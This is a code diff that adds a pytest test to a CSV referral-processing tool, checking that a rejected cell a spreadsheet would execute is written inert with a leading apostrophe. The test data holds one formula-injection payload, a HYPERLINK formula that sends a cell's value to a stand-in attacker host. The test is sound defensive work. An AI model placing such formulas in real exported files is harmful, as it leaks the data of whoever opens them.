@@ -162,6 +162,23 @@ def test_invalid_pcp_cells_are_row_errors_not_a_stopped_run(tmp_path: Path, data
     assert list(manifest["row_id"]) == ["2"] and manifest.loc[0, "referrer_name"] == " "
 
 
+def test_a_rejected_cell_that_a_spreadsheet_would_run_is_written_inert(
+    tmp_path: Path, database_url: str
+) -> None:
+    frame = _sample(2)
+    frame["pcp_name"] = ["Dr P. One", "Dr P. Two"]
+    attack = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+    frame["pcp_email"] = [attack, ""]
+    path = tmp_path / "cohort.csv"
+    frame.to_csv(path, index=False)
+    code, out = _run(path, tmp_path / "out", "--jobs", "1")
+    errors = pd.read_csv(tmp_path / "out" / "errors.csv", dtype=str)
+    assert code == 3, out
+    assert list(errors[["row", "field", "value"]].itertuples(index=False, name=None)) == [
+        ("1", "pcp_email", "'" + attack)
+    ]
+
+
 def test_the_manifest_carries_the_training_and_referral_cells_unchanged(
     tmp_path: Path, database_url: str
 ) -> None:
